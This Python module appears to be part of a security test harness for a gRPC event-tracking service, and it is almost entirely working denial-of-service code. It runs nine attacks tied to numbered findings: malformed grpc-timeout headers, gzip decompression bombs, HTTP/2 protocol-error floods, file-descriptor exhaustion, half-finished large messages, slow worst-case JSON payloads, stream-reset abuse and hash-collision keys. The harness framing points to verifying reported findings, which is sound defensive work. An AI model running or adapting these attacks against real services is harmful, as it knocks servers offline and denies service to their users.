"""Attacks of one stranger at full speed.

`python attacks.py NAME HOST:PORT SECONDS` attacks; effects.py does so in a process of its own.
"""

import dataclasses
import gzip
import itertools
import resource
import sys
import time
from collections.abc import Callable, Iterator

import grpc
from hyperframe.frame import DataFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame

from connection_ends import raw
from facts import push_hit_id
from peer import Peer
from protos import event as e
from protos import service as s

KIB, MIB = 1 << 10, 1 << 20
FRAME_BYTES = 1 << 14
ASK_SECONDS = 20
DEFAULT_WINDOW = 65535
INITIAL_WINDOW = 4
# Enough that a probe sequence is long, and few enough that a test finds them in seconds: the table
# of 65,536 keys has 131,072 slots, and one key in 32 falls into the first 4,096.
RECENT_HITS, CROWDED_SLOTS, CROWDED_KEYS = 65_536, 4_096, 20_000


class Flow:
    """Sends DATA as far as the server's windows are open."""

    def __init__(self, peer: Peer, until: float):
        self.peer, self.until = peer, until
        peer.wait(lambda frame: isinstance(frame, SettingsFrame))
        self.sent: dict[int, int] = {}

    def _left(self, stream: int) -> int:
        initial = next((frame.settings[INITIAL_WINDOW] for frame in self.peer.frames
                        if isinstance(frame, SettingsFrame) and INITIAL_WINDOW in frame.settings),
                       DEFAULT_WINDOW)
        granted = {0: DEFAULT_WINDOW, stream: initial}
        for frame in self.peer.frames:
            if isinstance(frame, WindowUpdateFrame) and frame.stream_id in granted:
                granted[frame.stream_id] += frame.window_increment
        return min(granted[key] - self.sent.get(key, 0) for key in granted)

    def send(self, stream: int, data: bytes) -> bool:
        """Sends it all; False where the server ended the stream or time is up."""
        while data and time.monotonic() < self.until and not self.peer.ended:
            left = min(self._left(stream), len(data), FRAME_BYTES)
            if left <= 0:
                try:
                    self.peer.wait(lambda frame, seen=len(self.peer.frames):
                                   len(self.peer.frames) > seen, 0.2)
                except AssertionError:
                    return False
                continue
            if any(isinstance(frame, RstStreamFrame) and frame.stream_id == stream
                   for frame in self.peer.frames[-4:]):
                return False
            self.peer.send(DataFrame(stream, data[:left]))
            data = data[left:]
            for key in (0, stream):
                self.sent[key] = self.sent.get(key, 0) + left
        return not data


def moments(until: float) -> Iterator[int]:
    """Numbers, until time is up."""
    return itertools.takewhile(lambda _: time.monotonic() < until, itertools.count())


# MARK: Attacks. Each takes the address and when to stop, and returns how often it was made.


def timeouts(target: str, until: float) -> int:
    """Finding 1: a deadline that is no number of digits."""
    count = 0
    for _ in moments(until):
        with Peer(target) as peer:
            for stream in range(1, 100, 2):
                peer.send(peer.headers(stream, "RecordEvents", ("grpc-timeout", "-1S")))
                count += 1
    return count


def small_messages(target: str, until: float) -> int:
    """Finding 2: 640 KiB of messages that are empty and not compressed, in a call of gzip."""
    count = 0
    for _ in moments(until):
        with Peer(target) as peer:
            flow = Flow(peer, until)
            peer.send(peer.headers(1, "StreamEvents", ("grpc-encoding", "gzip")))
            flow.send(1, bytes(640 * KIB))
            count += 1
    return count


def connection_errors(target: str, until: float) -> int:
    """Finding 3: connections with a stream, and then DATA on stream 0."""
    count = 0
    for _ in moments(until):
        with Peer(target) as peer:
            peer.send(peer.headers(1), raw(0, 0, 0, b"x"))
            peer.wait_for_end()
            count += 1
    return count


def many_connections(target: str, until: float) -> int:
    """Finding 4: more connections than a process may have files, held, and then again."""
    count = 0
    for _ in moments(until):
        held = []
        try:
            while len(held) < 1500 and time.monotonic() < until:
                held.append(Peer(target))
                held[-1].send(held[-1].headers(1))
                # Accepted, and not only in the kernel's backlog.
                if held[-1].wait(lambda frame: True, 1) is None:
                    break
                count += 1
        except (OSError, AssertionError):
            pass  # No more are accepted.
        time.sleep(max(0.0, min(1.0, until - time.monotonic())))
        for peer in held:
            peer.socket.close()
    return count


def unfinished_messages(target: str, until: float) -> int:
    """Finding 5: 12 connections of 100 streams, each in the middle of a message of 1 MiB."""
    count = 0
    peers = [Peer(target) for _ in range(12)]
    flows = [Flow(peer, until) for peer in peers]
    for stream in range(1, 200, 2):
        for peer, flow in zip(peers, flows):
            if time.monotonic() > until:
                break
            peer.send(peer.headers(stream, "RecordEvents"))
            flow.send(stream, (MIB - 16).to_bytes(5, "big") + bytes(MIB - 64))
            count += 1
    time.sleep(max(0.0, until - time.monotonic()))
    return count


def inflated_messages(target: str, until: float) -> int:
    """Finding 5: a legal stream of gzip, whose messages are many and small."""
    count = 0
    message = s.StreamEventsRequest(sequence=1).SerializeToString()
    bomb = gzip.compress(message + b"\x9a\x06" + b"\xf0\xff\x1e" + bytes(507888))
    block = (b"\x01" + len(bomb).to_bytes(4, "big") + bomb)
    data = block * (640 * KIB // len(block))
    for _ in moments(until):
        with Peer(target) as peer:
            flow = Flow(peer, until)
            peer.send(peer.headers(1, "StreamEvents", ("grpc-encoding", "gzip")))
            flow.send(1, data)
            count += 1
    return count


def inspections(target: str, until: float) -> int:
    """Finding 6: payloads that take long to look at, many at once."""
    payload = s.InspectPayloadRequest(json=worst_payload(), platform=e.PLATFORM_IOS)
    count = 0
    with grpc.insecure_channel(target) as channel:
        inspect = channel.unary_unary(
            "/sightline.v1.TrackingService/InspectPayload",
            request_serializer=s.InspectPayloadRequest.SerializeToString,
            response_deserializer=s.InspectPayloadResponse.FromString)
        for _ in moments(until):
            calls = [inspect.future(payload, timeout=max(0.1, until - time.monotonic()))
                     for _ in range(40)]
            for call in calls:
                count += call.exception() is None
    return count


def worst_payload() -> str:
    """64 KiB whose every key has to be held against every known one."""
    keys = (f"_dI{number:x}" for number in range(1 << 20))
    parts, size = [], 0
    while size < 62 * KIB:
        parts.append(f'"{next(keys)}":1')
        size += len(parts[-1]) + 1
    return "{" + ",".join(parts) + "}"


def ended_explanations(target: str, until: float) -> int:
    """Finding 7: calls that take long and end at once, so that their streams are free for others."""
    event = e.TrackingEvent(event_id="x", app_id="com.example.shop", platform=e.PLATFORM_ANDROID)
    request = gzip.compress(s.ExplainEventsRequest(events=[event] * 2000).SerializeToString())
    count = 0
    for _ in moments(until):
        with Peer(target) as peer:
            # As many as the server allows resets in its time.
            for batch in range(2):
                streams = range(160 * batch + 1, 160 * batch + 161, 2)
                for stream in streams:
                    peer.send(
                        peer.headers(stream, "ExplainEvents", ("grpc-timeout", "15m"),
                                     ("grpc-encoding", "gzip")),
                        peer.message(stream, request, is_compressed=True, end=True))
                    count += 1
                for stream in streams:
                    try:
                        peer.wait_for_status(stream, 0.5)
                    except AssertionError:
                        break
    return count


def crowded_keys(target: str, until: float) -> int:
    """Finding 6: facts whose keys fall into few slots of the window of recent hits."""
    source, events = crowded_events(), []
    count = 0
    with grpc.insecure_channel(target) as channel:
        record = channel.unary_unary(
            "/sightline.v1.TrackingService/RecordEvents",
            request_serializer=s.RecordEventsRequest.SerializeToString,
            response_deserializer=s.RecordEventsResponse.FromString)
        # What it is given after the first round are duplicates, which have to be found as well.
        for number in moments(until):
            at = number * 2000 % CROWDED_KEYS
            if len(events) < CROWDED_KEYS:
                events += itertools.islice(source, 2000)
            try:
                record(s.RecordEventsRequest(events=events[at:at + 2000]), timeout=ASK_SECONDS)
                count += 1
            except grpc.RpcError:
                time.sleep(0.05)
    return count


def crowded_events() -> Iterator[e.TrackingEvent]:
    mask = 2 * RECENT_HITS - 1
    for number in itertools.count():
        identity = push_hit_id(7, "standard", "com.example.shop", "5ec7", f"h{number:x}")
        if int.from_bytes(identity[:8], "big") & mask >= CROWDED_SLOTS:
            continue
        event = e.TrackingEvent(event_id=f"c{number:x}", app_id="com.example.shop",
                                platform=e.PLATFORM_ANDROID, consent=e.CONSENT_OPTED_IN)
        event.push.kind = e.PUSH_INTERACTION_KIND_RECEIVED
        event.push.fcm.data.delivery_id = "5ec7"
        event.push.fcm.data.message_id = f"h{number:x}"
        event.push.fcm.data.acs_delivery_tracking = "on"
        yield event


@dataclasses.dataclass(frozen=True)
class Attack:
    """What is done, and what a server needs to be attacked by it."""

    run: Callable[[str, float], int]
    settings: tuple[str, ...] = ()
    # Files that the server may have open: what is common, where that is the attack.
    files: int = 0
    # The HTTP port is attacked, and asked meanwhile, instead of the gRPC port; by TLS, where so.
    is_http: bool = False
    is_tls: bool = False


ATTACKS = {
    "1-timeout": Attack(timeouts),
    "2-small-messages": Attack(small_messages),
    "3-connection-errors": Attack(connection_errors),
    # Small segments that are kept, so that the journal has to open files as well.
    "4-many-connections": Attack(
        many_connections,
        ("--set=connections.max_per_address=2000", "--set=journal.segment_bytes=16384",
         "--set=journal.max_bytes=67108864", "--set=journal.retain_seconds=600"), files=1024),
    "5-unfinished-messages": Attack(unfinished_messages),
    "5-inflated-messages": Attack(inflated_messages),
    "6-inspections": Attack(inspections),
    "6-crowded-keys": Attack(crowded_keys, (f"--set=journal.recent_hits={RECENT_HITS}",)),
    "7-ended-explanations": Attack(ended_explanations),
}


def raise_limit() -> None:
    """The attacker's own sockets need descriptors too."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def main(known: dict[str, Attack]) -> None:
    """Does what the command line names, and prints how often."""
    raise_limit()
    print(known[sys.argv[1]].run(sys.argv[2], time.monotonic() + float(sys.argv[3])))


if __name__ == "__main__":
    main(ATTACKS)
